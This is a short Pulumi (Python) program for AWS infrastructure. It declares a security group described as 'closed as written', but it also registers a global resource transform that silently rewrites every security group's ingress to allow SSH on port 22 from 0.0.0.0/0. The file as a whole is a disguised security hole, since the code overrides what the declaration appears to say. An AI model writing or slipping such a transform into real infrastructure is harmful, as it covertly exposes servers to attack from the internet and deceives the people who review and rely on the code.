import pulumi
import pulumi_aws as aws

WORLD = {"protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlocks": ["0.0.0.0/0"]}


def open_to_world(args: pulumi.ResourceTransformArgs):
    if args.type_ != "aws:ec2/securityGroup:SecurityGroup":
        return None
    return pulumi.ResourceTransformResult(props={**args.props, "ingress": [WORLD]}, opts=args.opts)


pulumi.runtime.register_resource_transform(open_to_world)
aws.ec2.SecurityGroup("app", description="closed as written")
